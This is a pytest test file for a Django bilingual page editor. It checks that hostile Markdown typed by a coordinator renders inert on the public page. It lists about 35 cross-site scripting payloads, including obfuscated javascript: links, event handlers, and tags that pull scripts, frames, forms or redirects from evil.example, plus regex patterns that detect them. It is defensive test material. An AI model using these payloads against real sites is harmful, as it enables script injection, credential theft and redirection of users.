"""Hostile input in a page's Markdown renders inert on the public page.

Each payload goes through the editor, as a coordinator would type it, and is then read on
the public page in both languages. Whatever survives must not run: no script element, no
event handler, no javascript:/data:/vbscript: address, no style, frame, object or form.
"""

import re

import pytest
from django.urls import reverse

from pages.models import Page

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/ok.png" onload="alert(1)">',
    "[click](javascript:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "[ref link][evil]\n\n[evil]: javascript:alert(1)",
    "![img](javascript:alert(1))",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<form action="https://evil.example/"><input name="password"></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<div onclick="alert(1)">click me</div>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">',
    '<input autofocus onfocus="alert(1)">',
    '<a href="  javascript:alert(1)">spaces</a>',
    "[x](  javascript:alert(1)  )",
    '<img src="https://evil.example/track.png" alt="tracker">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<a href="//evil.example/">protocol-relative</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '"><script>alert(1)</script>',
]

FORBIDDEN = [
    re.compile(r"<\s*script", re.I),
    re.compile(
        r"<\s*(iframe|object|embed|form|input|svg|math|style|base|meta|link|template)\b", re.I
    ),
    re.compile(r"\son\w+\s*=", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"(href|src)\s*=\s*[\"']?\s*(javascript|vbscript|data):", re.I),
    re.compile(r"(href|src)\s*=\s*[\"']?\s*//", re.I),
    re.compile(r"src\s*=\s*[\"']?\s*https?:", re.I),
]


def _body(html: str) -> str:
    match = re.search(r'<div class="page-body"[^>]*>(.*?)</div>\s*<p class="small', html, re.S)
    assert match, "the page body was not found"
    return match.group(1)


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 25


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_inert_on_the_public_page(payload, world, login, client):
    coordinator = login(world.user("coordinator"))
    response = coordinator.post(
        reverse("pages:create"),
        {
            "title_en": "Hostile",
            "title_ar": "عدائي",
            "slug": "hostile",
            "summary_en": "",
            "summary_ar": "",
            "body_en": f"Before\n\n{payload}\n\nAfter",
            "body_ar": f"قبل\n\n{payload}\n\nبعد",
            "order": 1,
            "is_published": "on",
        },
    )
    assert response.status_code == 302
    # The source is kept as typed, so the coordinator can see and fix it.
    assert payload in Page.objects.get(slug="hostile").body_en

    login(None)
    for language in ("en", "ar"):
        page = client.get(f"/{language}/pages/hostile/")
        assert page.status_code == 200
        body = _body(page.content.decode())
        for pattern in FORBIDDEN:
            assert not pattern.search(body), f"{pattern.pattern} matched in {body!r}"
